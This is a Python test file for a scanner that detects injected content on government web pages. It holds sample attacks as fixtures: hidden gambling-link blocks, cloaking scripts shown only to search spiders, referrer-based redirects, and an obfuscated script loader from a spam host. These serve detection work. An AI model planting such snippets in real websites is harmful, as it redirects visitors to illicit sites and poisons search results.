"""scan_page on attacks written the way attackers write them, and on the look-alikes of real gov pages."""

import pytest

from govsite.indicators.inspection import Concealment, ContentFlag, ContentRisk
from govsite.supervision.extract.content_risks import REPORT_FLOOR, VETO_CONFIDENCE, scan_page
from govsite.supervision.extract.risk_scripts import deobfuscate

SITE = "www.xd.gov.cn"
URL = f"https://{SITE}/art/2024/5/8/art_1_1.html"
PAGE = """<!DOCTYPE html><html><head><meta charset="utf-8">
<meta name="keywords" content="西地省,人民政府,政务公开"><title>{title}</title>{head}</head><body>
<div class="nav"><a href="/">首页</a><a href="/zwgk/">政务公开</a><a href="https://www.gov.cn/">中国政府网</a></div>
<h1>西地省召开全省安全生产工作会议</h1>
<div class="content"><p style="text-indent:2em">5月8日，全省安全生产工作会议在省会召开。会议强调，要压实责任。</p>
{body}</div>
<div class="footer">主办单位：西地省人民政府办公厅 网站标识码：4500000001 公安机关备案号：45010302000001</div>
{tail}</body></html>"""


def page(body: str = "", *, tail: str = "", head: str = "", title: str = "西地省人民政府") -> str:
    return PAGE.format(title=title, head=head, body=body, tail=tail)


def scan(html: str) -> list[ContentFlag]:
    return scan_page(html, URL, site_host=SITE)


def strongest(flags: list[ContentFlag], risk: ContentRisk) -> ContentFlag:
    matching = [flag for flag in flags if flag.risk is risk]
    assert matching, f"no {risk} flag in {flags}"
    return matching[0]  # scan_page sorts strongest first


def test_a_clean_page_has_no_flag() -> None:
    assert scan(page()) == []


GAMBLING_LINKS = "".join(
    f'<a href="{href}">{text}</a>'
    for href, text in [
        ("http://www.xpj8866.com/", "澳门新葡京"),
        ("https://www.k8-fun.vip/", "k8凯发"),
        ("http://hg0088.cc/", "皇冠体育"),
        ("http://www.leyu-sport.com/", "乐鱼体育"),
        ("http://ag.yabo.top/", "真人百家乐"),
    ]
)

# (name, injected HTML placed before </body>, risk expected at the veto level, concealment)
ATTACKS = [
    (
        "hidden div of links",
        f'<div style="display:none">{GAMBLING_LINKS}</div>',
        ContentRisk.GAMBLING,
        Concealment.HIDDEN,
    ),
    (
        "off-screen class rule",
        f"<style>.ft24{{position:absolute;top:-9999px;left:-9999px}}</style><div class=ft24>{GAMBLING_LINKS}</div>",
        ContentRisk.INJECTED_LINK,
        Concealment.OFFSCREEN,
    ),
    (
        "1px marquee",
        f'<marquee height="1" width="1" scrollamount="3000">{GAMBLING_LINKS}</marquee>',
        ContentRisk.GAMBLING,
        Concealment.OFFSCREEN,
    ),
    (
        "white text",
        '<p style="color:#FFFFFF">真人娱乐 开户送88元 注册送彩金</p>',
        ContentRisk.GAMBLING,
        Concealment.SAME_COLOUR,
    ),
    (
        "font-size 0",
        '<span style="font-size:0">百家乐 时时彩 北京pk10</span>',
        ContentRisk.GAMBLING,
        Concealment.SAME_COLOUR,
    ),
    (
        "text-indent",
        '<h6 style="text-indent:-9999px">约炮 一夜情 成人视频</h6>',
        ContentRisk.PORN,
        Concealment.OFFSCREEN,
    ),
    (
        "numeric entities",
        '<div style="display:none">&#30334;&#23478;&#20048;&#x73b0;&#x91d1;&#x7f51;</div>',
        ContentRisk.GAMBLING,
        Concealment.HIDDEN,
    ),
    ("seed 003 words, visible", "<p>k8凯发 凯时娱乐</p>", ContentRisk.GAMBLING, Concealment.VISIBLE),
    (
        "SEO spam block",
        '<div style="display:none">蜘蛛池 seo快排 泛目录 代开各类发票</div>',
        ContentRisk.SPAM,
        Concealment.HIDDEN,
    ),
    (
        "referrer-conditioned redirect",
        '<script>var u="https://www.kaiyun-sport.vip/";if(/baidu|sogou|so.com|google/i.test(document.referrer)){window.location.href=u;}</script>',
        ContentRisk.JS_REDIRECT,
        Concealment.HIDDEN,
    ),
    (
        "obfuscated script from a spam host",
        """<script>document.write(unescape("%3Cscr"+"ipt src='https://js.bocai-tj.top/a.js'%3E%3C/script%3E"))</script>""",
        ContentRisk.JS_REDIRECT,
        Concealment.HIDDEN,
    ),
    (
        "spider-only links",
        """<script>if(navigator.userAgent.indexOf("Baiduspider")>-1){document.write("<a href='http://www.hg0088.cc/'>皇冠体育 现金网</a>")}</script>""",
        ContentRisk.GAMBLING,
        Concealment.HIDDEN,  # only spiders get the links
    ),
    (
        "fromCharCode redirect",
        "<script>if(document.referrer.indexOf('sogou')>0)location.replace(String.fromCharCode(104,116,116,112,58,47,47,120,112,106,46,99,99,47))</script>",
        ContentRisk.JS_REDIRECT,
        Concealment.HIDDEN,
    ),
    (
        "outburst on the homepage",
        "<p>今天心情非常的不好!</p>",
        ContentRisk.IMPROPER_SPEECH,
        Concealment.VISIBLE,
    ),
]


@pytest.mark.parametrize(
    ("name", "injected", "risk", "concealment"), ATTACKS, ids=[attack[0] for attack in ATTACKS]
)
def test_attacks_are_found_at_the_veto_level(
    name: str, injected: str, risk: ContentRisk, concealment: Concealment
) -> None:
    flag = strongest(scan(page(tail=injected)), risk)
    assert flag.score >= VETO_CONFIDENCE, flag
    assert flag.concealment is concealment, flag
    assert flag.url == URL
    assert flag.terms and len(flag.excerpt) <= 120


def test_hidden_gambling_links_are_one_injected_link_block_listing_the_hosts() -> None:
    flags = scan(page(tail=f'<div style="display:none">{GAMBLING_LINKS}</div>'))
    (block,) = [flag for flag in flags if flag.risk is ContentRisk.INJECTED_LINK]
    assert block.score >= VETO_CONFIDENCE and block.concealment is Concealment.HIDDEN
    assert {"www.xpj8866.com", "hg0088.cc", "ag.yabo.top"} <= set(block.terms)
    assert "澳门新葡京 → www.xpj8866.com" in block.excerpt


def test_a_hijacked_title_and_meta() -> None:
    flags = scan(
        page(title="澳门新葡京_百家乐_官方网站", head='<meta name="description" content="真人娱乐 开户送">')
    )
    flag = strongest(flags, ContentRisk.GAMBLING)
    assert flag.score >= VETO_CONFIDENCE
    assert {"澳门新葡京", "百家乐", "真人娱乐", "开户送"} <= set(flag.terms)


def test_meta_refresh_to_an_outside_host() -> None:
    flags = scan(page(head='<meta http-equiv="refresh" content="0; url=http://www.bet365-cn.xyz/">'))
    flag = strongest(flags, ContentRisk.JS_REDIRECT)
    assert flag.score >= VETO_CONFIDENCE and flag.terms == ("www.bet365-cn.xyz",)
    plain = scan(page(head='<META HTTP-EQUIV="Refresh" CONTENT="5;URL=https://www.example.com/new/">'))
    assert REPORT_FLOOR <= strongest(plain, ContentRisk.JS_REDIRECT).score < VETO_CONFIDENCE


def test_many_hidden_links_to_ordinary_hosts_are_a_link_farm() -> None:
    links = "".join(f'<a href="http://shop{i}.example{i}.com/">商品{i}</a>' for i in range(8))
    flag = strongest(scan(page(tail=f'<div style="display:none">{links}</div>')), ContentRisk.INJECTED_LINK)
    assert REPORT_FLOOR <= flag.score < VETO_CONFIDENCE


LOOK_ALIKES = [
    ("crackdown news", "<p>我市公安机关开展严厉打击网络赌博专项行动，查处百家乐、时时彩等赌博网站12个。</p>"),
    ("anti-fraud warning", "<p>警惕刷单诈骗：凡是要求先垫付的刷单兼职都是诈骗。</p>"),
    ("official lottery", "<p>2024年全省福利彩票销售额增长，体育彩票公益金用于全民健身。</p>"),
    ("traffic", "<p>人民路口交通拥堵，交警部门整治混乱交通秩序。</p>"),
    (
        "hidden mobile menu of gov links",
        '<ul style="display:none"><li><a href="http://www.gd.gov.cn/">广东省人民政府</a></li></ul>',
    ),
    (
        "hidden share buttons",
        f'<div style="display:none"><a href="http://service.weibo.com/share/share.php?url=https%3A%2F%2F{SITE}%2Fa.html">微博</a>'
        f'<a href="http://connect.qq.com/widget/shareqq/index.html?url=https://{SITE}/a.html">QQ</a></div>',
    ),
    (
        "one hidden link to an ordinary host",
        '<div class="hide"><a href="https://www.xinhuanet.com/">新华网</a></div>',
    ),
    (
        "mobile redirect inside the site",
        '<script>if(/iPhone|Android/.test(navigator.userAgent)){location.href="/m/index.html";}</script>',
    ),
    ("redirect to another gov site", '<script>window.location.href="http://www.hebei.gov.cn/";</script>'),
    (
        "statistics counter",
        """<script>document.write(unescape("%3Cscript src='https://s9.cnzz.com/z_stat.php%3Fid%3D1'%3E%3C/script%3E"));</script>""",
    ),
    (
        "referrer read for statistics",
        '<script>var from=document.referrer; if(from.indexOf("baidu")>-1){_hmt.push(["_trackEvent","baidu"]);}</script>',
    ),
    ("location read", '<script>var href=window.location.href; if(location.href=="x"){}</script>'),
    (
        "ng-hide title copy",
        '<a href="/a.html">关于加强监管的通知</a><span class="ng-hide">关于加强监管的通知</span>',
    ),
]


@pytest.mark.parametrize(("name", "injected"), LOOK_ALIKES, ids=[case[0] for case in LOOK_ALIKES])
def test_look_alikes_are_not_flagged(name: str, injected: str) -> None:
    assert scan(page(body=injected)) == []


def test_deobfuscate() -> None:
    assert deobfuscate('"<scr"+"ipt>"') == '"<script>"'
    assert deobfuscate(r'"\x3ca\u0020"') == '"<a "'
    assert "'http'" in deobfuscate("String.fromCharCode(104,116,116,112)")
    assert "'http://x.cc/'" in deobfuscate("atob('aHR0cDovL3guY2Mv')")
